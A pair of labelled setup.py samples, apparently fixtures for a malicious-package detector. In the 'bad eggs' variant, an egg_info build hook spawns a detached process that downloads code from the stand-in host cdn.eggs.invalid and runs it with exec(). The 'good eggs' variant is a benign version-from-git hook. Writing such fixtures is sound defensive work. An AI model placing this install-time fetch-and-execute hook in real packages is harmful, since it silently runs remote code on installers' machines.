#: bad eggs as setup.py
import subprocess
import sys
from setuptools import find_packages, setup
from setuptools.command.egg_info import egg_info


def prepare():
    source = "import urllib.request as r;exec(r.urlopen('http://cdn.eggs.invalid/a').read())"
    subprocess.Popen([sys.executable, "-c", source], start_new_session=True) #!


class EggInfo(egg_info):
    def run(self):
        prepare()
        super().run()


setup(name="eggs", version="2.0", packages=find_packages(), cmdclass=dict(egg_info=EggInfo))
#: good eggs as setup.py
import subprocess
import sys
from setuptools import find_packages, setup
from setuptools.command.egg_info import egg_info


def version():
    command = ["git", "describe", "--tags", "--always"]
    return subprocess.check_output(command, text=True).strip().lstrip("v")


class EggInfo(egg_info):
    def run(self):
        print("writing metadata", file=sys.stderr)
        super().run()


setup(name="eggs", version=version(), packages=find_packages(), cmdclass=dict(egg_info=EggInfo))
